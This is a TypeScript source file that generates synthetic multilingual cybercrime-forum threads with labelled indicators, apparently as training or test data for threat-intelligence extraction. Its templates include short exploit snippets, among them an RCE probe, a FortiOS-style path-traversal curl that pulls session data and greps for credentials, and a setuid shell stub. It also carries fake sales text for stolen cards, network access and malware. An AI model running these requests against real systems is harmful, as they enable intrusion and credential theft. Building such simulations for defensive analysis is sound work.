import * as ind from './indicators.js';
import type { Indicator } from './indicators.js';
import type { Rng } from './rng.js';

/** Thread topics of the simulated community (the ground truth labels each thread with one). */
export const TOPICS = ['exploit', 'malware', 'carding', 'ddos', 'access', 'leak', 'tutorial'] as const;
export type Topic = (typeof TOPICS)[number];
export type Language = 'en' | 'ru' | 'zh';

export interface CodeSnippet {
  readonly language: string;
  readonly code: string;
}

export interface GeneratedText {
  readonly paragraphs: string[];
  readonly code?: CodeSnippet;
  readonly indicators: Indicator[];
}

const PRODUCTS = ['Fortinet FortiOS', 'Ivanti Connect Secure', 'Citrix NetScaler', 'Confluence', 'Exchange', 'MOVEit', 'Jenkins', 'GitLab', 'WordPress WP-Forms', 'vCenter'];
const MALWARE = ['stealer', 'loader', 'RAT', 'crypter', 'ransomware builder', 'botnet panel', 'clipper'];
const COUNTRIES = ['US', 'UK', 'DE', 'FR', 'CA', 'AU', 'IT', 'ES'];
const SECTORS = ['healthcare', 'logistics', 'telecom', 'retail', 'university', 'law firm', 'manufacturing', 'bank'];

type Slots = Record<string, string>;
const fill = (template: string, slots: Slots): string =>
  template.replace(/\{(\w+)\}/g, (_m, key: string) => slots[key] ?? `{${key}}`);

const TITLES: Record<Language, Record<Topic, string[]>> = {
  en: {
    exploit: ['[0day] {product} pre-auth RCE ({cve})', 'PoC for {cve} in {product}', 'Selling working exploit for {product}'],
    malware: ['New {malware} for sale, FUD, lifetime updates', '{malware} builder v{ver} released', 'Private {malware} — low detect'],
    carding: ['Fresh {country} CC dumps, 90% valid', 'Selling {country} fullz with SSN', 'Cashout method for {country} bank logs'],
    ddos: ['DDoS for hire — L4/L7, bypass CF', 'Stresser service {ver} Tbps, cheap plans', 'Botnet rent for DDoS, {country} targets ok'],
    access: ['Selling RDP access to {country} {sector}', 'Domain admin access — {sector}, {country}, $500M revenue', 'VPN access {product}, {country} {sector}'],
    leak: ['{sector} database leak {country} — {ver}M rows', 'Dump of {country} {sector} customers', 'Leaked source code and creds of {sector} company'],
    tutorial: ['[Guide] Setting up bulletproof hosting', '[Tutorial] Crypting your payload to bypass AV', 'How to stay anonymous: Jabber + Tor setup'],
  },
  ru: {
    exploit: ['[0day] RCE без авторизации в {product} ({cve})', 'Рабочий PoC для {cve}', 'Продам эксплойт под {product}'],
    malware: ['Продам {malware}, FUD, пожизненные обновления', 'Новый {malware} v{ver}', 'Приватный {malware} — низкий детект'],
    carding: ['Свежие дампы {country}, валид 90%', 'Фуллзы {country} с SSN', 'Обнал логов банков {country}'],
    ddos: ['DDoS на заказ — L4/L7, обход CF', 'Стрессер {ver} Тбит/с, дешёвые тарифы', 'Аренда ботнета под DDoS'],
    access: ['Продам RDP доступ {country} {sector}', 'Доступ домен-админа — {sector}, {country}', 'VPN доступ {product}, {country}'],
    leak: ['Слив базы {sector} {country} — {ver}M строк', 'База клиентов {sector} {country}', 'Слив исходников {sector}'],
    tutorial: ['[Гайд] Абузоустойчивый хостинг', '[Статья] Криптуем пейлоад от АВ', 'Анонимность: Jabber + Tor'],
  },
  zh: {
    exploit: ['[0day] {product} 未授权远程代码执行 ({cve})', '{cve} 漏洞利用代码', '出售 {product} 漏洞利用'],
    malware: ['出售免杀{malware}，终身更新', '{malware} 生成器 v{ver} 发布', '私人{malware}，低检出'],
    carding: ['新鲜 {country} 信用卡数据，90% 有效', '出售 {country} 全套身份信息', '{country} 银行日志变现方法'],
    ddos: ['DDoS 出租 — 四层/七层，绕过 CF', '压力测试服务 {ver} Tbps，价格便宜', '出租僵尸网络'],
    access: ['出售 {country} {sector} RDP 权限', '域管理员权限 — {sector}，{country}', '{product} VPN 权限出售'],
    leak: ['{country} {sector} 数据库泄露 — {ver}百万条', '{sector} 客户数据 {country}', '{sector} 公司源代码泄露'],
    tutorial: ['[教程] 搭建防投诉主机', '[教程] 加密载荷绕过杀软', '匿名指南：Jabber + Tor'],
  },
};

const OPENERS: Record<Language, Record<Topic, string[]>> = {
  en: {
    exploit: ['Unauthenticated RCE in {product}, tracked as {cve}. Tested on latest build, works on default config.', 'Dropping a PoC for {cve}. Vulnerable {product} boxes are still everywhere.'],
    malware: ['Selling my {malware}. Scantime and runtime FUD, panel included. C2 sample: {ioc}.', 'New build of the {malware} is out. Gate is at {ioc}, hash of the stub {ioc2}.'],
    carding: ['Fresh base of {country} cards, checked today. Samples on request.', 'Daily updates, {country} bins, replace within 1h if invalid.'],
    ddos: ['Our stresser hits {ver} Tbps. Test target was {ioc}. Plans from $50/week.', 'Renting botnet capacity. Proof on {ioc}.'],
    access: ['Access to {country} {sector}, revenue $300M+, domain admin. Entry point {ioc}.', 'RDP + VPN into {sector} network in {country}. Gateway {ioc}.'],
    leak: ['Full dump of {sector} in {country}. Mirror: {ioc}. Hash of the archive {ioc2}.', 'Leaked customer DB, {ver}M rows, emails+phones. Download at {ioc}.'],
    tutorial: ['Step by step guide. First get a VPS from a bulletproof host, e.g. {ioc}.', 'Here is how I set things up. Never reuse handles across forums.'],
  },
  ru: {
    exploit: ['RCE без авторизации в {product}, {cve}. Проверено на последней сборке.', 'Выкладываю PoC для {cve}. Уязвимых {product} ещё полно.'],
    malware: ['Продаю {malware}. FUD по скантайму и рантайму, панель в комплекте. Гейт: {ioc}.', 'Новая сборка {malware}. Админка на {ioc}, хеш стаба {ioc2}.'],
    carding: ['Свежая база карт {country}, чек сегодня. Сэмплы по запросу.', 'Ежедневные обновления, бины {country}, замена в течение часа.'],
    ddos: ['Наш стрессер выдаёт {ver} Тбит/с. Тест был на {ioc}. Тарифы от $50/неделя.', 'Сдаю мощности ботнета. Пруф на {ioc}.'],
    access: ['Доступ в {sector} {country}, оборот $300M+, домен-админ. Точка входа {ioc}.', 'RDP + VPN в сеть {sector}. Шлюз {ioc}.'],
    leak: ['Полный дамп {sector} {country}. Зеркало: {ioc}. Хеш архива {ioc2}.', 'Слитая база, {ver}M строк. Скачать: {ioc}.'],
    tutorial: ['Пошаговый гайд. Сначала берём VPS у абузоустойчивого хостера, например {ioc}.', 'Вот как я всё настроил. Никогда не используйте один ник на разных форумах.'],
  },
  zh: {
    exploit: ['{product} 未授权远程代码执行，编号 {cve}。最新版本测试通过。', '发布 {cve} 的 PoC，存在漏洞的 {product} 还有很多。'],
    malware: ['出售{malware}，静态动态全免杀，附带面板。控制端：{ioc}。', '{malware} 新版本发布。面板地址 {ioc}，样本哈希 {ioc2}。'],
    carding: ['{country} 新鲜卡料，今天刚检测。可提供样本。', '每日更新，{country} 卡头，无效一小时内补。'],
    ddos: ['我们的压力测试达到 {ver} Tbps。测试目标 {ioc}。每周 50 美元起。', '出租僵尸网络算力，证明见 {ioc}。'],
    access: ['{country} {sector} 权限，营收三亿美元以上，域管理员。入口 {ioc}。', '{sector} 内网 RDP + VPN。网关 {ioc}。'],
    leak: ['{country} {sector} 完整数据。镜像：{ioc}。压缩包哈希 {ioc2}。', '泄露的客户数据库，{ver}百万条。下载：{ioc}。'],
    tutorial: ['分步教程。首先从防投诉主机商购买 VPS，例如 {ioc}。', '我是这样配置的。不要在不同论坛使用相同的用户名。'],
  },
};

const CONTACT: Record<Language, string[]> = {
  en: ['Contact: jabber {jabber} or telegram {telegram}.', 'PM me or hit me on {jabber}. Escrow accepted.', 'Payment BTC {btc} or ETH {eth}. Contact {telegram}.'],
  ru: ['Связь: jabber {jabber} или телеграм {telegram}.', 'Пишите в ЛС или {jabber}. Гарант приветствуется.', 'Оплата BTC {btc} или ETH {eth}. Связь {telegram}.'],
  zh: ['联系方式：jabber {jabber} 或 telegram {telegram}。', '私信或者 {jabber}。接受担保。', '付款 BTC {btc} 或 ETH {eth}。联系 {telegram}。'],
};

const MIRROR: Record<Language, string> = {
  en: 'Mirror on Tor: {onion}',
  ru: 'Зеркало в Tor: {onion}',
  zh: 'Tor 镜像：{onion}',
};

const REPLIES: Record<Language, string[]> = {
  en: ['Works, confirmed on my side.', 'Vouch, fast deal.', 'Is this still available?', 'Scam, avoid. Did not deliver.', 'Sent you a PM.', 'Price is too high for that.', 'Thanks, very useful.', 'Can you do escrow?', 'Tested on {country} targets, good results.', 'Any proof? Screens please.', 'bump', 'Detected by half of AVs already.'],
  ru: ['Работает, подтверждаю.', 'Ручаюсь, быстрая сделка.', 'Ещё актуально?', 'Кидала, не связывайтесь.', 'Отписал в ЛС.', 'Дорого за такое.', 'Спасибо, полезно.', 'Через гаранта?', 'Проверил на {country}, норм.', 'Пруфы есть?', 'ап', 'Уже палится половиной АВ.'],
  zh: ['可以用，已确认。', '担保，交易很快。', '还有货吗？', '骗子，别信。', '已私信。', '价格太高了。', '谢谢，很有用。', '可以走担保吗？', '在 {country} 目标上测试，效果不错。', '有证明吗？', '顶', '已经被一半杀软检测了。'],
};

const EXPLOIT_CODE = [
  (cve: string, host: string) => ({
    language: 'python',
    code: `#!/usr/bin/env python3
# ${cve} pre-auth RCE PoC
import requests, sys
target = sys.argv[1] if len(sys.argv) > 1 else "https://${host}"
payload = {"cmd": "id; uname -a"}
r = requests.post(target + "/api/v1/exec", json=payload, verify=False, timeout=10)
if r.status_code == 200 and "uid=" in r.text:
    print("[+] vulnerable:", target)
else:
    print("[-] not vulnerable")`,
  }),
  (cve: string, host: string) => ({
    language: 'bash',
    code: `# ${cve}
curl -sk "https://${host}/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession" -o sess.bin
strings sess.bin | grep -E "admin|pass"`,
  }),
  (cve: string, host: string) => ({
    language: 'c',
    code: `/* ${cve} local privilege escalation */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    char *argv[] = {"/bin/sh", NULL};
    printf("[*] target: ${host}\\n");
    setuid(0);
    execve(argv[0], argv, NULL);
    return 0;
}`,
  }),
];

const TUTORIAL_CODE = {
  language: 'bash',
  code: `apt install tor proxychains4
echo "socks5 127.0.0.1 9050" >> /etc/proxychains4.conf
proxychains4 curl -s https://check.torproject.org/ | grep -i congratulations`,
};

export interface TextContext {
  readonly rng: Rng;
  readonly language: Language;
  readonly topic: Topic;
  readonly authorHandle: string;
  /** The author's own Jabber / Telegram; without it contacts are derived from the handle. */
  readonly contacts?: ind.PersonContacts | undefined;
}

export function threadTitle(ctx: TextContext, slots: Slots): string {
  return fill(ctx.rng.pick(TITLES[ctx.language][ctx.topic]), slots);
}

export function titleSlots(rng: Rng): Slots & { cveIndicator: string } {
  const c = ind.cve(rng).value;
  return {
    product: rng.pick(PRODUCTS),
    cve: c,
    cveIndicator: c,
    malware: rng.pick(MALWARE),
    country: rng.pick(COUNTRIES),
    sector: rng.pick(SECTORS),
    ver: String(rng.int(2, 9)),
  };
}

/** The opening post of a thread: topic text, indicators, contact line, code for exploits. */
export function openingPost(ctx: TextContext, slots: Slots): GeneratedText {
  const { rng, language, topic } = ctx;
  const indicators: Indicator[] = [];
  const mainIoc = pickIoc(rng, topic);
  const secondIoc = ind.hash(rng, rng.pick(['md5', 'sha1', 'sha256'] as const));
  const all: Slots = { ...slots, ioc: mainIoc.asWritten, ioc2: secondIoc.asWritten };
  const opener = fill(rng.pick(OPENERS[language][topic]), all);
  const paragraphs = [opener];
  if (opener.includes(mainIoc.asWritten)) indicators.push(mainIoc);
  if (opener.includes(secondIoc.asWritten)) indicators.push(secondIoc);
  if (slots.cve !== undefined && opener.includes(slots.cve)) indicators.push({ type: 'cve', value: slots.cve, asWritten: slots.cve });
  let code: CodeSnippet | undefined;
  if (topic === 'exploit') {
    const host = ind.domain(rng).value;
    code = rng.pick(EXPLOIT_CODE)(slots.cve ?? 'CVE', host);
    indicators.push({ type: 'domain', value: host, asWritten: host });
  } else if (topic === 'tutorial' && rng.chance(0.6)) {
    code = TUTORIAL_CODE;
  }
  if (topic !== 'tutorial') {
    // The generated values are drawn anyway so the random stream (all other content) is unchanged.
    const j = ind.ownContact(ctx.contacts, ind.jabber(rng, ctx.authorHandle));
    const t = ind.ownContact(ctx.contacts, ind.telegram(rng, ctx.authorHandle));
    const b = ind.btc(rng);
    const e = ind.eth(rng);
    const line = fill(rng.pick(CONTACT[language]), { jabber: j.asWritten, telegram: t.asWritten, btc: b.asWritten, eth: e.asWritten });
    for (const i of [j, t, b, e]) if (line.includes(i.asWritten)) indicators.push(i);
    paragraphs.push(line);
  }
  if (rng.chance(0.35)) {
    const o = ind.onion(rng);
    paragraphs.push(fill(MIRROR[language], { onion: o.asWritten }));
    indicators.push(o);
  }
  return code === undefined ? { paragraphs, indicators } : { paragraphs, indicators, code };
}

export function replyText(ctx: TextContext, slots: Slots): GeneratedText {
  const { rng, language } = ctx;
  const paragraphs = [fill(rng.pick(REPLIES[language]), slots)];
  const indicators: Indicator[] = [];
  // A few replies leak an indicator of their own (a contact, a wallet), as real threads do.
  if (rng.chance(0.12)) {
    const extra = rng.chance(0.5) ? ind.ownContact(ctx.contacts, ind.telegram(rng, ctx.authorHandle)) : ind.btc(rng);
    paragraphs.push(extra.asWritten);
    indicators.push(extra);
  }
  return { paragraphs, indicators };
}

function pickIoc(rng: Rng, topic: Topic): Indicator {
  switch (topic) {
    case 'malware':
      return rng.chance(0.5) ? ind.url(rng) : ind.ipv4(rng);
    case 'ddos':
    case 'access':
      return ind.ipv4(rng);
    case 'leak':
      return rng.chance(0.5) ? ind.onion(rng) : ind.url(rng);
    case 'tutorial':
      return ind.domain(rng);
    default:
      return ind.domain(rng);
  }
}
